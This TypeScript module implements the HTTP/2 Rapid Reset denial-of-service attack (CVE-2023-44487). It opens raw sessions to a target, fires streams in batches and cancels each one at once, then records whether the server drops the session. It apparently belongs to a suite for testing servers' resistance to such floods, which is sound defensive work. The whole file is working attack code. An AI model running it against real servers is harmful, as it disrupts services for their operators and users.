import { constants } from 'node:http2';
import { type Attack, hold } from './attack.js';
import { frame, PATHS, rawSession, rawStream } from './raw-calls.js';

const RESETS_PER_SESSION = 2_000;
const RESETS_AT_ONCE = 100;

/** Calls that are taken back as soon as they are made (CVE-2023-44487). */
export const rapidResets: Attack = async (target) => {
  const request = frame(Buffer.alloc(0));
  while (!target.signal.aborted) {
    const session = rawSession(target.address);
    for (let made = 0; made < RESETS_PER_SESSION && !session.destroyed && !target.signal.aborted; ) {
      for (let n = 0; n < RESETS_AT_ONCE && !session.destroyed; n++, made++) {
        const stream = rawStream(session, PATHS.getHandbill);
        stream.write(request);
        stream.close(constants.NGHTTP2_CANCEL);
      }
      await hold(10, target);
    }
    target.ended(session.destroyed ? 'thrown out' : 'left');
    session.destroy();
  }
};
